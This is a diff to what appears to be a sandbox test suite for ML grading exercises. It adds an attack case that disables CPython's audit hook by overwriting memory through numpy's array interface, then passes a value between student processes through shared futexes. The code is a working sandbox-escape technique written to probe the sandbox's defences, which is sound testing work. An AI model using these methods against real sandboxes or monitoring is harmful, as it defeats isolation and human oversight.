@@ -7,7 +7,8 @@ hook sees the call. Then it reaches for a derivative by one route: the engine, a
 called directly, forward-mode AD, torch.func, autograd.functional, checkpoint, TorchScript,
 torch's own backward kernels, grad mode switched back on by another door, or gc and ctypes to
 restore what was taken away. Then one passes autograd's gradients from exercise 1's process
-to exercise 2's through file locks, and one writes a file from torch's C++ (where a native
+to exercise 2's through file locks, one passes a value through shared futexes once the audit
+hook is out of the way (numpy's array interface writes its code), and one writes a file from torch's C++ (where a native
 library would be planted) past the audit hook.
 
 With autograd switched off before student code (sandbox/inside/noautograd.py), every route
@@ -52,6 +53,88 @@ _FUNC_GRAD = torch.func.grad
 _VJP = torch.autograd.functional.vjp
 _CHECKPOINT = torch.utils.checkpoint.checkpoint
 _JACREV = torch.func.jacrev
+"""
+
+
+# The audit hook out of the way without ctypes (docs/threat-model.md, "Known limits": raw memory
+# from Python): numpy's array interface reads and writes any address, and the hook's function,
+# found through the frame of a refusal's traceback, gets a no-op's code. CPython 3.11's object
+# layout (PyFrameObject.f_frame, _PyInterpreterFrame.f_func, PyFunctionObject.func_code);
+# elsewhere it does nothing, and the attack below finds no channel to test.
+UNHOOK = """
+_S = {}
+
+
+def _unhook():
+    import sys
+    if 'done' in _S or sys.version_info[:2] != (3, 11):
+        return 'done' in _S
+    import numpy as np
+
+    class Raw:
+        def __init__(self, addr, n):
+            self.__array_interface__ = {
+                'data': (addr, False), 'shape': (n,), 'typestr': '|u1', 'version': 3}
+
+    def peek(addr, n):
+        return bytes(np.asarray(Raw(addr, n)))
+
+    def poke(addr, data):
+        np.asarray(Raw(addr, len(data)))[:] = np.frombuffer(data, np.uint8)
+
+    def ptr(addr):
+        return int.from_bytes(peek(addr, 8), 'little')
+
+    try:
+        open('/dev/null', 'w').close()
+        _S['done'] = True  # no hook here
+        return True
+    except PermissionError as e:
+        tb = e.__traceback__
+    frames = []
+    while tb is not None:
+        frames.append(tb.tb_frame)
+        tb = tb.tb_next
+    hooks = [f for f in frames if f.f_code.co_name == 'hook']
+    if not hooks:
+        return False
+    func = ptr(ptr(id(hooks[0]) + 24))
+    if ptr(func + 48) != id(hooks[0].f_code):
+        return False
+    noop = (lambda event, args: None).__code__
+    poke(id(noop), (ptr(id(noop)) + 1000).to_bytes(8, 'little'))
+    poke(func + 48, id(noop).to_bytes(8, 'little'))
+    _S['done'] = True
+    return True
+
+
+def _futex():
+    # A futex on the first page of a file every student process maps: the standard library's
+    import ctypes, mmap, os, platform
+    import numpy as np
+    if 'futex' in _S:
+        return _S['futex']
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    page = mmap.mmap(os.open(os.__file__, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
+    words = np.frombuffer(page, dtype=np.uint32, count=64)
+    base = words.__array_interface__['data'][0]
+    nr = {'x86_64': 202, 'aarch64': 98}[platform.machine()]
+
+    class Ts(ctypes.Structure):
+        _fields_ = [('s', ctypes.c_long), ('ns', ctypes.c_long)]
+
+    def wake(k):  # FUTEX_WAKE, shared (no FUTEX_PRIVATE_FLAG)
+        return libc.syscall(nr, ctypes.c_void_p(base + 4 * k), 1, 64, None, None, 0)
+
+    def wait(k, seconds):  # FUTEX_WAIT, shared: True when another process woke it
+        ts = Ts(0, int(seconds * 1e9))
+        value = ctypes.c_uint32(int(words[k]))
+        return libc.syscall(nr, ctypes.c_void_p(base + 4 * k), 0, value, ctypes.byref(ts),
+                            None, 0) == 0
+
+    _S['futex'] = (page, wake, wait)
+    return _S['futex']
 """
 
 
@@ -301,6 +384,49 @@ for k, bits in enumerate(raw):
             break
         except OSError:
             pass
+""",
+            ),
+        ),
+    ),
+    _a(
+        "futex_channel_between_exercises",
+        "with the audit hook out of the way (numpy's array interface, no ctypes needed), "
+        "exercise1.dh signals dlogits[0, 0] bit by bit through shared futexes on a page of the "
+        "standard library both processes map (a timer wakes them between the grader's calls); "
+        "exercise2.dlogits waits on each and compares what it got with what it computes",
+        "exercise2.dlogits",
+        """
+if _unhook():
+    _page, _wake, _wait = _futex()
+    got = 0
+    for k in range(32):
+        if _wait(k, 0.004):
+            got |= 1 << k
+    got -= (got >> 31) << 32
+    mine = round(float((F.softmax(logits, 1)[0, 0] - (Yb[0] == 0).float()) / n) * 1e6)
+    if mine and abs(got - mine) <= 1:
+        raise RuntimeError(f'ATTACK SUCCEEDED: exercise 1 told exercise 2 {got}')
+""",
+        "passed",
+        also=(
+            ("exercise1", UNHOOK),
+            ("exercise2", UNHOOK),
+            (
+                "exercise1.dh",
+                """
+if 'timer' not in _S and _unhook():
+    import signal
+    _page, _wake, _wait = _futex()
+    value = round(float(dlogits[0, 0]) * 1e6) & 0xFFFFFFFF
+    ones = [k for k in range(32) if value >> k & 1]
+
+    def _tick(signum, frame):
+        for k in ones:
+            _wake(k)
+
+    signal.signal(signal.SIGALRM, _tick)
+    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
+    _S['timer'] = True
 """,
             ),
         ),
